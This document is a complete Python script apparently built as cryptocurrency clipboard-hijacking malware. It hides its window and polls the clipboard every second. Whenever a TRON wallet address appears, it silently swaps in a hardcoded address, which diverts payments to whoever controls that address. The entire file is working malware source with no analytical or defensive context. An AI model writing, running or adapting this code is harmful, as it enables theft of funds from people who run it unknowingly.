import tkinter as tk, re, time
root = tk.Tk()
root.withdraw()
trx = "TN3W4H6rK2ce4vX9YnFQHwKENnHjoxb3m9"
while 1:
    try:
        c = root.clipboard_get()
        if re.fullmatch(r"T[1-9A-HJ-NP-Za-km-z]{33}", c) and c != trx:
            root.clipboard_clear()
            root.clipboard_append(trx)
            root.update()
    except tk.TclError:
        pass
    time.sleep(1)
